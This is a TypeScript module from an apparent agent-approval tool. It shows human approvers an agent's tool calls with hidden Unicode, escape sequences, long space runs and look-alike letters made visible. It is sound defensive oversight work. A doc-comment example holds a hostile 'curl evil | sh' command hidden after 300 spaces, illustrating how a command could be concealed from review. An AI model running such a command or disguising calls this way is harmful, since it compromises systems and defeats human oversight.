// The approver's words for a request, shared by the browser inbox and the terminal approver: what
// the call does (from the input, never only from the agent's `action`), who decided, and every
// agent-controlled string made safe to look at. An approver must see exactly what would run:
// control, format (bidi, zero-width), separator, private-use and default-ignorable characters, and
// long runs of spaces, are shown as visible markers instead of being rendered, hidden or obeyed
// (a terminal obeys ESC, CSI and OSC sequences; a browser reorders bidi text).
import type { PermissionRequest, Resolution } from "@warden/server";

/**
 * Characters never shown as themselves, by Unicode property: controls (C0, DEL, C1 such as CSI
 * U+009B), format characters (bidi overrides and isolates, zero-width space/joiners, soft hyphen,
 * tags), line and paragraph separators, private use, lone surrogates, and every default-ignorable
 * code point (variation selectors, Hangul fillers, …), plus every space other than U+0020, and
 * every enclosing mark (U+20DD draws a circle over its base). See also `showConfusables`.
 */
const HIDDEN =
  /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Co}\p{Cs}\p{Default_Ignorable_Code_Point}\p{Me}]|(?! )\p{Zs}/gu;

/** A word: letters, marks and digits (a run of marks with no letter before it is one too). */
const WORD = /[\p{L}\p{M}\p{N}]+/gu;
/** Letters that pass for ASCII ones: Cyrillic, Greek, Armenian, Cherokee, fullwidth forms. */
const LOOK_ALIKE =
  "[\\p{Script=Cyrillic}\\p{Script=Greek}\\p{Script=Armenian}\\p{Script=Cherokee}\\uFF01-\\uFF5E]";
/** In a word with ASCII in it: marks over an ASCII character or over nothing, and look-alikes. */
const CONFUSABLE = new RegExp(`([\\0-\\x7F])(\\p{M}+)|^\\p{M}+|${LOOK_ALIKE}`, "gu");

/**
 * Shows the characters that make a word pass for another: in a word that mixes ASCII letters
 * with look-alike letters (`Bаsh`, `evil.exаmple` with a Cyrillic а), those letters; and a
 * combining mark drawn over an ASCII character (`/\u0338` looks like a struck slash) or over
 * nothing. Words wholly in another script (`привет`, Hindi with its marks) stay as they are.
 * Linear: each word is looked at once, and most are ASCII only.
 */
function showConfusables(text: string, show: (char: string) => string): string {
  const showAll = (chars: string) => [...chars].map(show).join("");
  return text.replace(WORD, (word, offset: number) => {
    if (!/[^\0-\x7F]/.test(word)) return word;
    // A word starting with marks: they sit on the character before it (ASCII: shown) or on none.
    const before = offset > 0 ? text.charCodeAt(offset - 1) : 0;
    const mixed = /[A-Za-z]/.test(word);
    if (!mixed && !(/^\p{M}/u.test(word) && before < 0x80)) return word;
    return word.replace(CONFUSABLE, (match, base?: string, marks?: string) => {
      if (base !== undefined) return base + showAll(marks!);
      if (/^\p{M}/u.test(match)) return before < 0x80 ? showAll(match) : match;
      return mixed ? show(match) : match;
    });
  });
}

/** Also the markers' own opening bracket, so that revealed text reads back exactly. */
const REVEALED = new RegExp(`${HIDDEN.source}|⟨`, "gu");
/** A run this long of plain spaces is collapsed into one marker saying how long it is. */
const SPACE_RUN = / {3,}/g;
const MAX_INDENT = 24;

export interface RevealOptions {
  /**
   * Text of several lines (file contents, pretty JSON): line feeds and tabs are kept and leading
   * indentation is not collapsed. Otherwise (a command, a path, a name) a line feed is shown as
   * `⏎` and a line break, a tab as its marker.
   */
  readonly multiline?: boolean;
}

/** `⟨U+202E⟩` for one code point. */
export function codePointMarker(char: string): string {
  const hex = char.codePointAt(0)!.toString(16).toUpperCase().padStart(4, "0");
  return `⟨U+${hex}⟩`;
}

/**
 * Agent-controlled text made safe to show: every hidden character as a visible marker
 * (`⟨U+001B⟩`, `⟨U+202E⟩`, `⟨U+200B⟩`), runs of 3+ spaces as `⟨300 spaces⟩`. Nothing is dropped
 * or truncated, so the text shown still says everything the text holds.
 * @example revealText("npm test" + " ".repeat(300) + "&& curl evil | sh") // "npm test⟨300 spaces⟩&& curl evil | sh"
 */
export function revealText(text: string, options: RevealOptions = {}): string {
  const multiline = options.multiline === true;
  const lines = text.split("\n").map((line) => {
    const leading = multiline ? (/^[ \t]*/.exec(line)?.[0] ?? "") : "";
    // Indentation is kept as it is, up to a depth no code needs: deeper, it could push text out of view.
    const indent = leading.length <= MAX_INDENT ? leading : "";
    const rest = line
      .slice(indent.length)
      .replace(REVEALED, (char) => (multiline && char === "\t" ? char : codePointMarker(char)));
    return (
      indent +
      showConfusables(rest, codePointMarker).replace(SPACE_RUN, (run) => `⟨${run.length} spaces⟩`)
    );
  });
  return lines.join(multiline ? "\n" : "⏎\n");
}

/** Characters a name shows as themselves: printable ASCII but the space (and `⟨`, not ASCII). */
const NAME_HIDDEN = /[^\x21-\x7E]/gu;

/**
 * A tool's name made safe to show, stricter than `revealText`: tool names are ASCII identifiers,
 * so every other character is a marker, look-alikes included (`B⟨U+0430⟩sh` is not `Bash`, nor
 * is `Bash⟨U+0020⟩`).
 * @example revealName("Bаsh") // "B⟨U+0430⟩sh"
 */
export function revealName(name: string): string {
  return name.replace(NAME_HIDDEN, codePointMarker);
}

/**
 * The text that `revealText` was given, from what it returned (with the same options): lets a
 * terminal show and edit a revealed rule or input and still send the exact characters.
 */
export function unrevealText(shown: string, options: RevealOptions = {}): string {
  const lines = options.multiline === true ? shown : shown.replaceAll("⏎\n", "\n");
  return lines.replace(
    /⟨U\+([0-9A-F]{4,6})⟩|⟨(\d+) spaces⟩/g,
    (_, hex?: string, spaces?: string) =>
      hex !== undefined
        ? String.fromCodePoint(Number.parseInt(hex, 16))
        : " ".repeat(Number(spaces)),
  );
}

/**
 * JSON with every hidden character inside its strings written as a `\uXXXX` escape: the same
 * value, safe to print in a terminal or open in an editor.
 */
export function escapedJson(value: unknown, space?: number): string {
  const text = JSON.stringify(value, null, space) ?? "null";
  // JSON.stringify escapes C0 controls inside strings itself: a raw line feed is layout.
  const unicodeEscape = (char: string) =>
    [...Array(char.length).keys()]
      .map((i) => `\\u${char.charCodeAt(i).toString(16).padStart(4, "0")}`)
      .join("");
  return showConfusables(
    text.replace(HIDDEN, (char) => (char === "\n" ? char : unicodeEscape(char))),
    unicodeEscape,
  );
}

/** Whether revealing changes the text (the text holds something an approver could not see). */
export function hasHiddenText(text: string, options: RevealOptions = {}): boolean {
  return revealText(text, options) !== text;
}

/** Pretty JSON with every string made visible (JSON already escapes C0 controls in strings). */
export function revealJson(value: unknown): string {
  return revealText(JSON.stringify(value, null, 2) ?? "undefined", { multiline: true });
}

/**
 * Warden's own description of a call, from its input, whole (never truncated): what the approver
 * reads first. The agent's `action` is only the agent's claim.
 */
export function describeCall(toolName: string, input: Record<string, unknown>): string {
  const field = (key: string) =>
    typeof input[key] === "string" ? (input[key] as string) : undefined;
  const command = field("command");
  if (command !== undefined) return `Run command: ${command}`;
  const path = field("file_path") ?? field("path") ?? field("notebook_path");
  if (path !== undefined) return `${toolName}: ${path}`;
  const url = field("url");
  if (url !== undefined) return `${toolName}: ${url}`;
  return `Use tool ${toolName}`;
}

/** The lines at the head of a card, revealed. */
export interface ActionLines {
  /** Warden's description of the call, from its input. */
  readonly call: string;
  /** The agent's own `action` when it says something else than `call`; shown marked as such. */
  readonly agentSays: string | null;
}

/**
 * The call as Warden describes it, and the agent's `action` only when it differs (the server
 * fills `action` with a shortened description when the agent sent none: that is not a difference).
 */
export function describeActionLines(
  request: Pick<PermissionRequest, "toolName" | "input" | "action">,
): ActionLines {
  const call = describeCall(request.toolName, request.input);
  const action = request.action;
  const shortened = action.endsWith("…") && call.startsWith(action.slice(0, -1));
  const same = action === call || shortened;
  return {
    call: revealText(call),
    agentSays: same ? null : revealText(action),
  };
}

/**
 * A rule pattern as people write it. Capability rules are compiled to a regex over every tool
 * name of the kind (`/^(?:Bash|bash|execute_command)$/(npm install*)`); shown as
 * `Bash(npm install*) (also bash, execute_command)`.
 */
export function describeRule(pattern: string): string {
  const capability = /^\/\^\(\?:([^()/]+)\)\$\/(\(.*\))?$/.exec(pattern);
  if (!capability) return revealText(pattern);
  const [first, ...others] = capability[1]!.split("|").map((name) => name.replaceAll("\\", ""));
  const args = capability[2] ?? "";
  const also = others.length > 0 ? ` (also ${others.join(", ")})` : "";
  return revealText(`${first}${args}${also}`);
}

export interface DeciderOptions {
  /** The approver id of whoever reads this: their own decisions read "you". */
  readonly me?: string;
}

/**
 * Who or what decided, in words that fit each: "alice", "you", "the server hook (ci-guard)",
 * "rule `Bash(rm *)` (global tier)", "the policy's default", "the timeout", "the agent (run-42)".
 */
export function describeDecider(resolution: Resolution, options: DeciderOptions = {}): string {
  const { kind, id, rule } = resolution.decidedBy;
  switch (kind) {
    case "approver":
      if (id !== undefined && id === options.me) return "you";
      return id ? revealText(id) : "an approver";
    case "hook":
      return id ? `the server hook (${revealText(id)})` : "the server hook";
    case "timeout":
      return "the timeout";
    case "agent":
      return id ? `the agent (${revealText(id)})` : "the agent";
    case "policy":
      if (resolution.reason === "budget_exceeded") return "the session's budget";
      if (resolution.reason === "mode") return "the session's mode";
      return rule
        ? `rule ${describeRule(rule.pattern)} (${rule.tier} tier)`
        : "the policy's default";
  }
}

/** "allowed once", "always allowed", "allowed with an edited input", "rejected", "denied", "timed out". */
export function describeOutcome(resolution: Resolution): string {
  if (resolution.reason === "local_mismatch") return "not confirmed by the server's policy";
  if (resolution.reason === "timed_out") return "timed out (rejected)";
  if (resolution.reason === "cancelled") return "cancelled by the agent";
  if (resolution.outcome === "deny")
    return resolution.decidedBy.kind === "approver" ? "rejected" : "denied";
  if (resolution.reply === "always") return "always allowed";
  if (resolution.reply === "once") return "allowed once";
  return "allowed";
}

/** The whole story in one sentence: "Allowed once by alice.", "Timed out: nobody answered in time." */
export function describeResolution(resolution: Resolution, options: DeciderOptions = {}): string {
  if (resolution.reason === "local_mismatch") {
    const did = resolution.local?.behavior === "allow" ? "ran" : "skipped";
    const server = resolution.local?.server ?? "decide otherwise";
    return `Not confirmed: the agent's SDK ${did} this call on a local decision; the session's policy would ${server}.`;
  }
  if (resolution.reason === "timed_out") return "Timed out: nobody answered in time (rejected).";
  if (resolution.reason === "cancelled") return "Cancelled by the agent.";
  const outcome = describeOutcome(resolution);
  const sentence = `${outcome[0]!.toUpperCase()}${outcome.slice(1)} by ${describeDecider(resolution, options)}`;
  return `${sentence}.`;
}

/** The rules an "always" reply added: `Bash(git push *) (project)`. */
export function describeRulesAdded(resolution: Resolution): string | null {
  const added = resolution.rulesAdded;
  if (!added || added.patterns.length === 0) return null;
  return `${added.patterns.map(describeRule).join(", ")} (${added.scope})`;
}

/**
 * Why an "always" rule would change nothing for this request, or null when it would. An explicit
 * ask rule matched and the server offers no "always" rule: the policy ranks ask above allow, so
 * the next call would ask again whatever rule is added.
 */
export function alwaysWithoutEffect(
  request: Pick<PermissionRequest, "evaluation" | "suggestions">,
): string | null {
  const { evaluation, suggestions } = request;
  if (evaluation.decision !== "ask" || evaluation.reason !== "rule" || !evaluation.rule)
    return null;
  if (suggestions.length > 0) return null;
  return `An "always" rule would have no effect: the ask rule ${describeRule(evaluation.rule)}${
    evaluation.tier ? ` (${evaluation.tier} tier)` : ""
  } still sends this call to a person, because this policy ranks ask rules above allow rules.`;
}

/** Time left: "4:59", "0:03", "1:02:03"; never negative. */
export function formatRemaining(ms: number): string {
  const total = Math.max(0, Math.ceil(ms / 1000));
  const h = Math.floor(total / 3600);
  const m = Math.floor((total % 3600) / 60);
  const s = String(total % 60).padStart(2, "0");
  return h > 0 ? `${h}:${String(m).padStart(2, "0")}:${s}` : `${m}:${s}`;
}
